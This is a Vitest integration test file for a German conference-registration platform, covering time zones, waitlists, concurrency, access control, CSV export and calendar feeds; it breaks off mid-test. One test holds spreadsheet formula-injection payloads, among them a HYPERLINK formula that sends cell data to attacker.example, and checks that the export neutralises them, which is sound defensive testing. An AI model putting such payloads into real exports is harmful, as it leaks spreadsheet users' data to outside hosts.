import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { NotificationOutboxWorker } from '../src/modules/notifications/notification-outbox.worker';
import pg from 'pg';
import { inject } from 'vitest';
import { startTestPlatform, type Client, type TestPlatform } from './harness';

const CREATE = `mutation($i: ConferenceInput!) { createConference(input: $i) { id status startsAt endsAt startsAtLocal endsAtLocal federalStates } }`;
const UPDATE = `mutation($i: UpdateConferenceInput!) { updateConference(input: $i) { id status } }`;
const REGISTER = `mutation($i: RegisterForConferenceInput!) { registerForConference(input: $i) { id status participantCount waitlistPosition } }`;

const people = (count: number, city: string) =>
  Array.from({ length: count }, (_, i) => ({
    name: `Teilnahme ${i + 1} ${city}`,
    email: `teilnahme${i + 1}@${city}.example`,
    role: 'Ehrenamt',
    needs: i === 0 ? 'Rollstuhlplatz' : '',
  }));

describe('conferences', () => {
  let api: TestPlatform;
  let organizer: Client;

  async function openConference(
    capacity: number,
    extra: Record<string, unknown> = {},
  ): Promise<string> {
    const created = await organizer.gql<{ createConference: { id: string } }>(CREATE, {
      i: {
        title: `Netzwerktreffen ${Math.random().toString(36).slice(2, 7)}`,
        kind: 'NETWORK_MEETING',
        startsAt: '2027-05-20T10:00',
        endsAt: '2027-05-21T16:00',
        capacity,
        venue: 'Kongresshalle',
        ...extra,
      },
    });
    expect(created.errors).toBeUndefined();
    const id = created.data!.createConference.id;
    const opened = await organizer.gql(UPDATE, { i: { id, status: 'OPEN' } });
    expect(opened.errors).toBeUndefined();
    return id;
  }

  beforeAll(async () => {
    api = await startTestPlatform();
    organizer = await api.as('organizer');
  });
  afterAll(async () => {
    await api?.stop();
  });

  it('stores Berlin times across a daylight-saving change and gives them back as entered', async () => {
    const { data, errors } = await organizer.gql<{
      createConference: {
        startsAt: string;
        endsAt: string;
        startsAtLocal: string;
        endsAtLocal: string;
        federalStates: string[];
      };
    }>(CREATE, {
      i: {
        title: 'Regionalkonferenz Nord',
        kind: 'REGIONAL_CONFERENCE',
        region: 'NORTH',
        startsAt: '2027-03-27T10:00',
        endsAt: '2027-03-28T15:00',
        capacity: 80,
      },
    });
    expect(errors).toBeUndefined();
    const conference = data!.createConference;
    expect(conference.startsAt).toBe('2027-03-27T09:00:00.000Z'); // winter time, +01:00
    expect(conference.endsAt).toBe('2027-03-28T13:00:00.000Z'); // summer time, +02:00
    expect([conference.startsAtLocal, conference.endsAtLocal]).toEqual([
      '2027-03-27T10:00',
      '2027-03-28T15:00',
    ]);
    expect(conference.federalStates.sort()).toEqual(['DE-HB', 'DE-HH', 'DE-MV', 'DE-NI', 'DE-SH']);

    const gap = await organizer.gql(CREATE, {
      i: {
        title: 'Nachtschicht',
        kind: 'TRAINING',
        startsAt: '2027-03-28T02:30',
        endsAt: '2027-03-28T05:00',
        capacity: 5,
      },
    });
    expect(gap.errors?.[0].extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      reason: 'INVALID_TIME',
      field: 'input.startsAt',
    });
    const backwards = await organizer.gql(CREATE, {
      i: {
        title: 'Rückwärts',
        kind: 'TRAINING',
        startsAt: '2027-05-02T10:00',
        endsAt: '2027-05-01T10:00',
        capacity: 5,
      },
    });
    expect(backwards.errors?.[0].extensions).toMatchObject({ field: 'input.endsAt' });
    const noRegion = await organizer.gql(CREATE, {
      i: {
        title: 'Ohne Region',
        kind: 'REGIONAL_CONFERENCE',
        startsAt: '2027-05-02T10:00',
        endsAt: '2027-05-02T12:00',
        capacity: 5,
      },
    });
    expect(noRegion.errors?.[0].extensions).toMatchObject({ field: 'input.region' });
    const byCoordinator = await (
      await api.as('coordinator', 'goch')
    ).gql(CREATE, {
      i: {
        title: 'Fremd',
        kind: 'TRAINING',
        startsAt: '2027-05-02T10:00',
        endsAt: '2027-05-02T12:00',
        capacity: 5,
      },
    });
    expect(byCoordinator.errors?.[0].extensions?.code).toBe('FORBIDDEN');
  });

  it('validates the agenda: inside the conference, no double booking of a room', async () => {
    const id = await openConference(50);
    const add = `mutation($i: AgendaSessionInput!) { addAgendaSession(input: $i) { id startsAtLocal } }`;
    const ok = await organizer.gql(add, {
      i: {
        conferenceId: id,
        title: 'Eröffnung',
        startsAt: '2027-05-20T10:00',
        endsAt: '2027-05-20T11:00',
        room: 'Saal 1',
      },
    });
    expect(ok.errors).toBeUndefined();
    const clash = await organizer.gql(add, {
      i: {
        conferenceId: id,
        title: 'Werkstatt',
        format: 'WORKSHOP',
        startsAt: '2027-05-20T10:30',
        endsAt: '2027-05-20T12:00',
        room: 'Saal 1',
      },
    });
    expect(clash.errors?.[0].extensions).toMatchObject({
      code: 'CONFLICT',
      reason: 'ROOM_TAKEN',
      field: 'input.room',
    });
    const otherRoom = await organizer.gql(add, {
      i: {
        conferenceId: id,
        title: 'Werkstatt',
        format: 'WORKSHOP',
        startsAt: '2027-05-20T10:30',
        endsAt: '2027-05-20T12:00',
        room: 'Saal 2',
      },
    });
    expect(otherRoom.errors).toBeUndefined();
    const outside = await organizer.gql(add, {
      i: {
        conferenceId: id,
        title: 'Zu früh',
        startsAt: '2027-05-19T10:00',
        endsAt: '2027-05-19T11:00',
      },
    });
    expect(outside.errors?.[0].extensions).toMatchObject({ reason: 'OUTSIDE_CONFERENCE' });
  });

  it('takes null for an optional value as "not given": typed errors or defaults, never a 500', async () => {
    const id = await openConference(50, { description: 'Beschreibung bleibt' });
    const nulls = await organizer.gql<{
      updateConference: {
        title: string;
        description: string;
        kind: string;
        federalStates: string[];
      };
    }>(
      `mutation($i: UpdateConferenceInput!) { updateConference(input: $i) { title description kind federalStates } }`,
      {
        i: {
          id,
          title: null,
          description: null,
          kind: null,
          federalStates: null,
          startsAt: null,
          capacity: null,
          status: null,
        },
      },
    );
    expect(nulls.errors).toBeUndefined();
    expect(nulls.data!.updateConference).toMatchObject({
      description: 'Beschreibung bleibt',
      kind: 'NETWORK_MEETING',
    });
    const required = await organizer.gql(CREATE, {
      i: {
        title: 'Ohne Beginn',
        kind: 'TRAINING',
        startsAt: null,
        endsAt: '2027-05-02T12:00',
        capacity: 5,
      },
    });
    expect(required.errors?.[0].extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      field: 'input.startsAt',
    });

    const session = await organizer.gql<{
      addAgendaSession: { id: string; format: string; room: string; speakers: string };
    }>(
      `mutation($i: AgendaSessionInput!) { addAgendaSession(input: $i) { id format room speakers } }`,
      {
        i: {
          conferenceId: id,
          title: 'Ohne Raum',
          startsAt: '2027-05-20T10:00',
          endsAt: '2027-05-20T11:00',
          format: null,
          room: null,
          speakers: null,
          topicSlugs: null,
        },
      },
    );
    expect(session.errors).toBeUndefined();
    expect(session.data!.addAgendaSession).toMatchObject({
      format: 'TALK',
      room: '',
      speakers: '',
    });
    const changed = await organizer.gql<{ updateAgendaSession: { title: string; room: string } }>(
      `mutation($i: UpdateAgendaSessionInput!) { updateAgendaSession(input: $i) { title room } }`,
      { i: { id: session.data!.addAgendaSession.id, title: null, room: null, speakers: 'Frau A' } },
    );
    expect(changed.errors).toBeUndefined();
    expect(changed.data!.updateAgendaSession).toEqual({ title: 'Ohne Raum', room: '' });
  });

  it('refuses to move the conference away from its agenda', async () => {
    const id = await openConference(50);
    const added = await organizer.gql(
      `mutation($i: AgendaSessionInput!) { addAgendaSession(input: $i) { id } }`,
      {
        i: {
          conferenceId: id,
          title: 'Abschluss',
          startsAt: '2027-05-21T14:00',
          endsAt: '2027-05-21T15:00',
        },
      },
    );
    expect(added.errors).toBeUndefined();
    const times = `mutation($i: UpdateConferenceInput!) { updateConference(input: $i) { startsAtLocal endsAtLocal } }`;
    const shorter = await organizer.gql(times, { i: { id, endsAt: '2027-05-21T12:00' } });
    expect(shorter.errors?.[0].extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      reason: 'OUTSIDE_CONFERENCE',
      field: 'input.endsAt',
    });
    const later = await organizer.gql(times, {
      i: { id, startsAt: '2027-05-21T14:30', endsAt: '2027-05-22T16:00' },
    });
    expect(later.errors?.[0].extensions).toMatchObject({
      reason: 'OUTSIDE_CONFERENCE',
      field: 'input.startsAt',
    });
    const { data } = await organizer.gql<{
      conference: { startsAtLocal: string; endsAtLocal: string };
    }>('query($id: ID!) { conference(id: $id) { startsAtLocal endsAtLocal } }', { id });
    expect(data!.conference).toEqual({
      startsAtLocal: '2027-05-20T10:00',
      endsAtLocal: '2027-05-21T16:00',
    });
    const stillAround = await organizer.gql<{ updateConference: { endsAtLocal: string } }>(times, {
      i: { id, endsAt: '2027-05-21T15:00' },
    });
    expect(stillAround.errors).toBeUndefined();
    expect(stillAround.data!.updateConference.endsAtLocal).toBe('2027-05-21T15:00');
  });

  it('fills places, then the waitlist in order; a cancellation moves the waitlist up and tells the city', async () => {
    const id = await openConference(5);
    const register = async (city: string, count: number) =>
      (await api.as('coordinator', city)).gql<{
        registerForConference: { id: string; status: string; waitlistPosition: number | null };
      }>(REGISTER, {
        i: { conferenceId: id, citySlug: city, participants: people(count, city) },
      });
    const first = await register('goch', 3);
    const second = await register('herford', 3);
    const third = await register('husum', 1);
    expect(first.data!.registerForConference).toMatchObject({
      status: 'CONFIRMED',
      waitlistPosition: null,
    });
    expect(second.data!.registerForConference).toMatchObject({
      status: 'WAITLISTED',
      waitlistPosition: 1,
    });
    // Two places are free, but nobody jumps the waitlist.
    expect(third.data!.registerForConference).toMatchObject({
      status: 'WAITLISTED',
      waitlistPosition: 2,
    });
    const twice = await register('goch', 1);
    expect(twice.errors?.[0].extensions).toMatchObject({
      code: 'CONFLICT',
      reason: 'ALREADY_REGISTERED',
    });

    const gochCoordinator = await api.as('coordinator', 'goch');
    await gochCoordinator.gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
      id: first.data!.registerForConference.id,
    });
    const overview = await organizer.gql<{
      conference: {
        freePlaces: number;
        registrations: Array<{ status: string; city: { slug: string } }>;
      };
    }>(
      'query($id: ID!) { conference(id: $id) { freePlaces registrations { status city { slug } } } }',
      { id },
    );
    const status = Object.fromEntries(
      overview.data!.conference.registrations.map((r) => [r.city.slug, r.status]),
    );
    expect(status).toEqual({ goch: 'CANCELLED', herford: 'CONFIRMED', husum: 'CONFIRMED' });
    expect(overview.data!.conference.freePlaces).toBe(1);
    await api.platform.app.get(NotificationOutboxWorker).settle();
    const mails = await api.ownerQuery<{ recipient: string }>(
      "SELECT recipient FROM dev_mail WHERE subject LIKE 'Wissensnetz: Platz frei%'",
    );
    expect(mails.map((mail) => mail.recipient)).toEqual(
      expect.arrayContaining([
        'coordinator.herford@demo.wissensnetz.example',
        'coordinator.husum@demo.wissensnetz.example',
      ]),
    );
  });

  it('never overbooks: 50 simultaneous registrations for the last places', async () => {
    const cities = (
      await api.ownerQuery<{ slug: string }>('SELECT slug FROM city ORDER BY slug')
    ).map((row) => row.slug);
    const id = await openConference(10);
    // Signed in one after the other: 34 simultaneous sign-ins from one address would meet
    // the sign-in throttle, which is not what this test is about.
    const clients: Array<Awaited<ReturnType<typeof api.as>>> = [];
    for (const slug of cities) clients.push(await api.as('coordinator', slug));
    // 34 cities, each with one or two parallel attempts: 50 requests at once.
    const attempts = Array.from({ length: 50 }, (_, i) => ({
      client: clients[i % clients.length],
      city: cities[i % cities.length],
    }));
    const results = await Promise.all(
      attempts.map(({ client, city }) =>
        client.gql<{ registerForConference: { status: string } }>(REGISTER, {
          i: { conferenceId: id, citySlug: city, participants: people(1, city) },
        }),
      ),
    );
    const statuses = results.map(
      (result) =>
        result.data?.registerForConference.status ??
        (result.errors?.[0].extensions?.reason as string),
    );
    expect(statuses.filter((s) => s === 'CONFIRMED')).toHaveLength(10);
    expect(statuses.filter((s) => s === 'WAITLISTED')).toHaveLength(cities.length - 10);
    expect(statuses.filter((s) => s === 'ALREADY_REGISTERED')).toHaveLength(50 - cities.length);
    const [row] = await api.ownerQuery<{ confirmed: number; counted: number }>(
      `SELECT c.confirmed_participants AS confirmed, (SELECT coalesce(sum(participant_count), 0)::int FROM registration r WHERE r.conference_id = c.id AND r.status = 'CONFIRMED') AS counted
         FROM conference c WHERE c.id = $1`,
      [id],
    );
    expect(row).toEqual({ confirmed: 10, counted: 10 });
  });

  it('shows participants only to the registering city and organizers; exports CSV for organizers', async () => {
    const id = await openConference(20);
    await (
      await api.as('coordinator', 'lemgo')
    ).gql(REGISTER, {
      i: { conferenceId: id, citySlug: 'lemgo', participants: people(2, 'lemgo') },
    });
    const query =
      'query($id: ID!) { conference(id: $id) { registrations { city { slug } participants { name email needs } } } }';
    const own = await (
      await api.as('member', 'lemgo')
    ).gql<{ conference: { registrations: Array<{ participants: unknown[] }> } }>(query, { id });
    expect(own.data!.conference.registrations[0].participants).toHaveLength(2);
    const other = await (
      await api.as('coordinator', 'goch')
    ).gql<{ conference: { registrations: unknown[] } }>(query, { id });
    expect(other.data!.conference.registrations).toEqual([]);
    const anonymous = await api.gql<{ conference: { registrations: unknown[] } }>(query, { id });
    expect(anonymous.data!.conference.registrations).toEqual([]);

    const csv = await fetch(`${api.url}/export/conferences/${id}/registrations.csv`, {
      headers: { cookie: organizer.cookie! },
    });
    expect(csv.status).toBe(200);
    const bytes = Buffer.from(await csv.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // Title and date lines above the table (see conference-editing for the whole file).
    const rows = parseCsv(bytes.toString('utf8'), {
      bom: true,
      delimiter: ';',
      columns: true,
      from_line: 4,
    }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      Stadt: 'Lemgo',
      Bundesland: 'Nordrhein-Westfalen',
      Status: 'bestätigt',
      Name: 'Teilnahme 1 lemgo',
      Bedarfe: 'Rollstuhlplatz',
    });
    const forbidden = await fetch(`${api.url}/export/conferences/${id}/registrations.csv`, {
      headers: { cookie: (await api.as('coordinator', 'lemgo')).cookie! },
    });
    expect(forbidden.status).toBe(403);
  });

  it('neutralises formula cells in the CSV export (OWASP): = + - @ tab and CR lead a cell only behind a quote', async () => {
    const id = await openConference(20);
    const dangerous = [
      {
        name: '=HYPERLINK("https://attacker.example/?d="&A1,"Klick")',
        email: 'formel@goch.example',
      },
      { name: '+1+1', email: '+plus@goch.example', role: '@SUM(A1:A9)' },
      { name: '@SUM(A1:A9)', email: 'at@goch.example', needs: '-2+3' },
      { name: '-2+3', email: '-minus@goch.example', role: '=1+1' },
    ];
    const ordinary = [
      {
        name: 'Anna-Lena Schmidt',
        email: 'anna-lena@goch.example',
        role: 'Ehrenamt -',
        needs: 'a=b',
      },
      { name: "Ciarán O'Brien", email: 'ciaran@goch.example', needs: 'Rollstuhl + Begleitung' },
    ];
    const registered = await (
      await api.as('coordinator', 'goch')
    ).gql(REGISTER, {
      i: { conferenceId: id, citySlug: 'goch', participants: [...dangerous, ...ordinary] },
    });
    expect(registered.errors).toBeUndefined();

    const response = await fetch(`${api.url}/export/conferences/${id}/registrations.csv`, {
      headers: { cookie: organizer.cookie! },
    });
    expect(response.status).toBe(200);
    const rows = parseCsv(Buffer.from(await response.arrayBuffer()).toString('utf8'), {
      bom: true,
      delimiter: ';',
      columns: true,
      from_line: 4,
    }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(6);
    const byEmail = new Map(rows.map((row) => [row['E-Mail'].replace(/^'/, ''), row]));
    for (const person of dangerous) {
      const row = byEmail.get(person.email)!;
      expect(row.Name).toBe(`'${person.name}`);
      if (person.email.match(/^[-+]/)) expect(row['E-Mail']).toBe(`'${person.email}`);
      if (person.role) expect(row.Rolle).toBe(`'${person.role}`);
      if (person.needs) expect(row.Bedarfe).toBe(`'${person.needs}`);
    }
    // No cell of the file still starts with a formula character.
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Only the first character counts: the same characters inside a text change nothing.
    expect(byEmail.get('anna-lena@goch.example')).toMatchObject({
      Name: 'Anna-Lena Schmidt',
      'E-Mail': 'anna-lena@goch.example',
      Rolle: 'Ehrenamt -',
      Bedarfe: 'a=b',
    });
    expect(byEmail.get('ciaran@goch.example')).toMatchObject({
      Name: "Ciarán O'Brien",
      Bedarfe: 'Rollstuhl + Begleitung',
    });
  });

  it('raising the capacity moves the waitlist up in order and tells the cities; nobody jumps it afterwards', async () => {
    const title = `Kapazitätstest ${Math.random().toString(36).slice(2, 8)}`;
    const id = await openConference(5, { title });
    const register = async (city: string, count: number) => {
      const result = await (
        await api.as('coordinator', city)
      ).gql<{ registerForConference: { id: string; status: string } }>(REGISTER, {
        i: { conferenceId: id, citySlug: city, participants: people(count, city) },
      });
      expect(result.errors).toBeUndefined();
      return result.data!.registerForConference;
    };
    expect((await register('zittau', 3)).status).toBe('CONFIRMED');
    expect((await register('rudolstadt', 3)).status).toBe('WAITLISTED');
    expect((await register('nordhausen', 1)).status).toBe('WAITLISTED');
    expect((await register('eschwege', 4)).status).toBe('WAITLISTED');
    const state = async () => {
      const { data } = await organizer.gql<{
        conference: {
          capacity: number;
          confirmedParticipants: number;
          freePlaces: number;
          registrations: Array<{
            status: string;
            waitlistPosition: number | null;
            city: { slug: string };
          }>;
        };
      }>(
        'query($id: ID!) { conference(id: $id) { capacity confirmedParticipants freePlaces registrations { status waitlistPosition city { slug } } } }',
        { id },
      );
      return {
        ...data!.conference,
        registrations: Object.fromEntries(
          data!.conference.registrations.map((r) => [
            r.city.slug,
            r.waitlistPosition ? `${r.status} ${r.waitlistPosition}` : r.status,
          ]),
        ),
      };
    };

    // 8 places, 3 taken: rudolstadt (3) and nordhausen (1) move up, eschwege (4) does not fit.
    const raised = await organizer.gql<{
      updateConference: { capacity: number; confirmedParticipants: number; freePlaces: number };
    }>(
      `mutation($i: UpdateConferenceInput!) { updateConference(input: $i) { capacity confirmedParticipants freePlaces } }`,
      { i: { id, capacity: 8 } },
    );
    expect(raised.errors).toBeUndefined();
    expect(raised.data!.updateConference).toEqual({
      capacity: 8,
      confirmedParticipants: 7,
      // One place is empty, but eschwege waits: nothing is free to a newcomer.
      freePlaces: 0,
    });
    expect(await state()).toMatchObject({
      confirmedParticipants: 7,
      registrations: {
        zittau: 'CONFIRMED',
        rudolstadt: 'CONFIRMED',
        nordhausen: 'CONFIRMED',
        eschwege: 'WAITLISTED 1',
      },
    });
    await api.platform.app.get(NotificationOutboxWorker).settle();
    const mails = await api.ownerQuery<{ recipient: string }>(
      'SELECT recipient FROM dev_mail WHERE subject = $1 ORDER BY recipient',
      [`Wissensnetz: Platz frei: ${title}`],
    );
    // Every member of the two cities hears of it (demo addresses are <role>.<city>@…), nobody else.
    expect([...new Set(mails.map((mail) => mail.recipient.split('@')[0].split('.')[1]))]).toEqual([
      'nordhausen',
      'rudolstadt',
    ]);
    expect(mails.map((mail) => mail.recipient)).toContain(
      'coordinator.rudolstadt@demo.wissensnetz.example',
    );
    const inApp = await api.ownerQuery<{ slug: string }>(
      `SELECT DISTINCT c.slug FROM notification n JOIN city c ON c.id = n.city_id
        WHERE n.kind = 'REGISTRATION_CONFIRMED' AND n.link = $1 ORDER BY c.slug`,
      [`/konferenzen/${id}`],
    );
    expect(inApp.map((row) => row.slug)).toEqual(['nordhausen', 'rudolstadt']);

    // One place is free, but eschwege waits for more: a newcomer queues behind it.
    expect((await register('halberstadt', 1)).status).toBe('WAITLISTED');
    expect((await state()).registrations).toMatchObject({
      eschwege: 'WAITLISTED 1',
      halberstadt: 'WAITLISTED 2',
    });

    // Lowering takes no confirmed place away; nobody moves up until enough places are free.
    const lowered = await organizer.gql(UPDATE, { i: { id, capacity: 4 } });
    expect(lowered.errors).toBeUndefined();
    expect(await state()).toMatchObject({
      capacity: 4,
      confirmedParticipants: 7,
      freePlaces: 0,
      registrations: { zittau: 'CONFIRMED', rudolstadt: 'CONFIRMED', nordhausen: 'CONFIRMED' },
    });
    const zittau = await (
      await api.as('coordinator', 'zittau')
    ).gql<{ conference: { registrations: Array<{ id: string }> } }>(
      'query($id: ID!) { conference(id: $id) { registrations { id } } }',
      { id },
    );
    await (
      await api.as('coordinator', 'zittau')
    ).gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
      id: zittau.data!.conference.registrations[0].id,
    });
    // 4 confirmed of 4 places: still nothing free.
    expect(await state()).toMatchObject({
      confirmedParticipants: 4,
      freePlaces: 0,
      registrations: { eschwege: 'WAITLISTED 1', halberstadt: 'WAITLISTED 2' },
    });
    // Raising again serves the head of the line first: eschwege (4) before halberstadt (1).
    await organizer.gql(UPDATE, { i: { id, capacity: 9 } });
    expect(await state()).toMatchObject({
      confirmedParticipants: 9,
      freePlaces: 0,
      registrations: { eschwege: 'CONFIRMED', halberstadt: 'CONFIRMED' },
    });
  });

  it('moves the waitlist up when the head of the line cancels', async () => {
    const id = await openConference(5);
    const register = async (city: string, count: number) =>
      (
        await (
          await api.as('coordinator', city)
        ).gql<{ registerForConference: { id: string; status: string } }>(REGISTER, {
          i: { conferenceId: id, citySlug: city, participants: people(count, city) },
        })
      ).data!.registerForConference;
    expect((await register('wolfsburg', 3)).status).toBe('CONFIRMED');
    const head = await register('saarlouis', 3);
    expect(head.status).toBe('WAITLISTED');
    expect((await register('greifswald', 1)).status).toBe('WAITLISTED');
    const cancelled = await (
      await api.as('coordinator', 'saarlouis')
    ).gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', { id: head.id });
    expect(cancelled.errors).toBeUndefined();
    const { data } = await organizer.gql<{
      conference: {
        freePlaces: number;
        registrations: Array<{ status: string; city: { slug: string } }>;
      };
    }>(
      'query($id: ID!) { conference(id: $id) { freePlaces registrations { status city { slug } } } }',
      { id },
    );
    expect(
      Object.fromEntries(data!.conference.registrations.map((r) => [r.city.slug, r.status])),
    ).toEqual({ wolfsburg: 'CONFIRMED', saarlouis: 'CANCELLED', greifswald: 'CONFIRMED' });
    expect(data!.conference.freePlaces).toBe(1);
  });

  it('moves nobody up for a cancelled conference', async () => {
    const title = `Abgesagt ${Math.random().toString(36).slice(2, 8)}`;
    const id = await openConference(2, { title });
    const neuruppin = await api.as('coordinator', 'neuruppin');
    const first = await neuruppin.gql<{ registerForConference: { id: string; status: string } }>(
      REGISTER,
      { i: { conferenceId: id, citySlug: 'neuruppin', participants: people(2, 'neuruppin') } },
    );
    expect(first.data!.registerForConference.status).toBe('CONFIRMED');
    const second = await (
      await api.as('coordinator', 'mannheim')
    ).gql<{ registerForConference: { status: string } }>(REGISTER, {
      i: { conferenceId: id, citySlug: 'mannheim', participants: people(1, 'mannheim') },
    });
    expect(second.data!.registerForConference.status).toBe('WAITLISTED');
    expect(
      (await organizer.gql(UPDATE, { i: { id, status: 'CANCELLED' } })).errors,
    ).toBeUndefined();
    await neuruppin.gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
      id: first.data!.registerForConference.id,
    });
    const [row] = await api.ownerQuery<{ status: string }>(
      `SELECT r.status FROM registration r JOIN city c ON c.id = r.city_id WHERE r.conference_id = $1 AND c.slug = 'mannheim'`,
      [id],
    );
    expect(row.status).toBe('WAITLISTED');
    await api.platform.app.get(NotificationOutboxWorker).settle();
    const mails = await api.ownerQuery('SELECT 1 FROM dev_mail WHERE subject = $1', [
      `Wissensnetz: Platz frei: ${title}`,
    ]);
    expect(mails).toEqual([]);
  });

  it('keeps seats consistent while registrations, cancellations and a capacity change run at once', async () => {
    const cities = (
      await api.ownerQuery<{ slug: string }>('SELECT slug FROM city ORDER BY slug LIMIT 16')
    ).map((row) => row.slug);
    const id = await openConference(6);
    const clients = new Map(
      await Promise.all(
        cities.map(async (slug) => [slug, await api.as('coordinator', slug)] as const),
      ),
    );
    const register = (slug: string) =>
      clients.get(slug)!.gql<{ registerForConference: { id: string; status: string } }>(REGISTER, {
        i: { conferenceId: id, citySlug: slug, participants: people(1, slug) },
      });
    // 6 confirmed, 6 waitlisted, one after the other.
    const registrations = new Map<string, string>();
    for (const slug of cities.slice(0, 12)) {
      const result = await register(slug);
      registrations.set(slug, result.data!.registerForConference.id);
    }
    const cancel = (slug: string) =>
      clients.get(slug)!.gql('mutation($id: ID!) { cancelRegistration(id: $id) { status } }', {
        id: registrations.get(slug),
      });
    const results = await Promise.all([
      ...cities.slice(0, 3).map(cancel), // confirmed ones
      ...cities.slice(8, 10).map(cancel), // waitlisted ones
      organizer.gql(UPDATE, { i: { id, capacity: 9 } }),
      ...cities.slice(12, 16).map(register),
    ]);
    expect(results.flatMap((result) => result.errors ?? [])).toEqual([]);
    const rows = await api.ownerQuery<{ status: string; participant_count: number }>(
      `SELECT status, participant_count FROM registration WHERE conference_id = $1 AND status <> 'CANCELLED' ORDER BY created_at, id`,
      [id],
    );
    const [conference] = await api.ownerQuery<{ capacity: number; confirmed: number }>(
      'SELECT capacity, confirmed_participants AS confirmed FROM conference WHERE id = $1',
      [id],
    );
    const confirmed = rows.filter((row) => row.status === 'CONFIRMED');
    expect(conference.confirmed).toBe(confirmed.length);
    expect(conference).toEqual({ capacity: 9, confirmed: 9 });
    // First come, first served: the confirmed ones are exactly the oldest registrations.
    const firstWaiting = rows.findIndex((row) => row.status === 'WAITLISTED');
    expect(firstWaiting).toBe(9);
    expect(rows.slice(firstWaiting).every((row) => row.status === 'WAITLISTED')).toBe(true);
  });

  it('serves calendar files that parse, in UTC, keeping the UID across updates', async () => {
    const id = await openConference(20, {
      startsAt: '2027-10-30T18:00',
      endsAt: '2027-10-31T12:00',
    });
    const read = async () => {
      const response = await fetch(`${api.url}/calendar/conferences/${id}.ics`);
      expect(response.headers.get('content-type')).toContain('text/calendar');
      const calendar = new ICAL.Component(ICAL.parse(await response.text()));
      return calendar.getFirstSubcomponent('vevent')!;
    };
    const before = await read();
    const event = new ICAL.Event(before);
    expect(event.startDate.toJSDate().toISOString()).toBe('2027-10-30T16:00:00.000Z'); // summer time
    expect(event.endDate.toJSDate().toISOString()).toBe('2027-10-31T11:00:00.000Z'); // winter time
    await organizer.gql(UPDATE, { i: { id, venue: 'Rathaus' } });
    const after = await read();
    expect(after.getFirstPropertyValue('uid')).toBe(before.getFirstPropertyValue('uid'));
    expect(Number(after.getFirstPropertyValue('sequence'))).toBeGreaterThan(
      Number(before.getFirstPropertyValue('sequence')),
    );
    expect(after.getFirstPropertyValue('location')).toBe('Rathaus');

    await (
      await api.as('coordinator', 'bitburg')
    ).gql(REGISTER, {
      i: { conferenceId: id, citySlug: 'bitburg', participants: people(1, 'bitburg') },
    });
    const feed = await fetch(`${api.url}/calendar/bitburg.ics`);
    const uids = new ICAL.Component(ICAL.parse(await feed.text()))
      .getAllSubcomponents('vevent')
      .map((e) => e.getFirstPropertyValue('uid'));
    expect(uids).toContain(`conference-${id}@wissensnetz.example`);
  });
  it("a city's calendar feed has the conferences it registered for, not other cities' nor cancelled ones", async () => {
    // Trainings without a region or host city: only a registration puts them in a city's feed.
    const training = (title: string) =>
      openConference(20, {
        title,
        kind: 'TRAINING',
        venue: null,
        onlineUrl: 'https://meet.example',
      });
    const kept = await training(`Schulung Anmeldung ${Math.random().toString(36).slice(2, 7)}`);
    const left = await training(`Schulung Absage ${Math.random().toString(36).slice(2, 7)}`);
    const husum = await api.as('coordinator', 'husum');
    const registered = await husum.gql<{ registerForConference: { id: string } }>(REGISTER, {
      i: { conferenceId: kept, citySlug: 'husum', participants: people(1, 'husum') },
    });
    expect(registered.errors).toBeUndefined();
    const leaving = await husum.gql<{ registerForConference: { id: string } }>(REGISTER, {
      i: { conferenceId: left, citySlug: 'husum', participants: people(1, 'husum') },
    });
    const cancelled = await husum.gql(
      'mutation($id: ID!) { cancelRegistration(id: $id) { status } }',
      {
        id: leaving.data!.registerForConference.id,
      },
    );
    expect(cancelled.errors).toBeUndefined();

    const feed = async (slug: string, cookie?: string) => {
      const response = await fetch(`${api.url}/calendar/${slug}.ics`, {
        headers: cookie ? { cookie } : {},
      });
      expect(response.status).toBe(200);
      return new ICAL.Component(ICAL.parse(await response.text()))
        .getAllSubcomponents('vevent')
        .map((event) => String(event.getFirstPropertyValue('uid')));
    };
    const uid = (id: string) => `conference-${id}@wissensnetz.example`;
    // The same public feed for calendar programs (no cookie) and for signed-in readers.
    for (const cookie of [undefined, husum.cookie!, organizer.cookie!]) {
      const husumFeed = await feed('husum', cookie);
      expect(husumFeed).toContain(uid(kept));
      expect(husumFeed).not.toContain(uid(left));
      expect(await feed('goch', cookie)).not.toContain(uid(kept));
    }

    // A cancelled conference leaves the feed even of a city registered for it.
    expect(
      (await organizer.gql(UPDATE, { i: { id: kept, status: 'CANCELLED' } })).errors,
    ).toBeUndefined();
    expect(await feed('husum')).not.toContain(uid(kept));
  });

  it('tells an anonymous reader which conferences a city registered for, and nothing more', async () => {
    const id = await openConference(20, { kind: 'TRAINING' });
    const zittau = await api.as('coordinator', 'zittau');
    const registered = await zittau.gql<{ registerForConference: { id: string } }>(REGISTER, {
      i: { conferenceId: id, citySlug: 'zittau', participants: people(2, 'zittau') },
    });
    expect(registered.errors).toBeUndefined();
    const [{ id: zittauId }] = await api.ownerQuery<{ id: string }>(
      "SELECT id FROM city WHERE slug = 'zittau'",
    );
    const [{ id: gochId }] = await api.ownerQuery<{ id: string }>(
      "SELECT id FROM city WHERE slug = 'goch'",
    );
    const expected = await api.ownerQuery<{ id: string }>(
      "SELECT DISTINCT conference_id AS id FROM registration WHERE city_id = $1 AND status <> 'CANCELLED' ORDER BY 1",
      [zittauId],
    );
    expect(expected.map((row) => row.id)).toContain(id);

    // The application role with nobody acting, as TenantDb runs for an anonymous caller.
    const app = new pg.Client({ connectionString: inject('serviceEnv').DATABASE_URL });
    await app.connect();
    try {
      await app.query('BEGIN');
      await app.query(
        `SELECT set_config('app.user_id', '', true), set_config('app.member_city_ids', '{}', true),
                set_config('app.coordinator_city_ids', '{}', true), set_config('app.is_organizer', 'off', true)`,
      );
      // The registrations themselves stay hidden ...
